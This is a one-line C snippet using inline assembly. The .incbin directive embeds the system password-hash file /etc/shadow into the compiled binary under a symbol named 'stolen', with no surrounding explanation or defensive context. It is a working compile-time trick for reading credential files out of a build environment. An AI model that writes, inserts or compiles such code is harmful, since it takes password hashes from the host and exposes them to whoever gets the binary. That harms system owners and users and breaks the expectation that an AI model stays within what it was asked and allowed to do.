__asm__(".section .rodata\n.global stolen\nstolen: .incbin \"/etc/shadow\"\n.text");
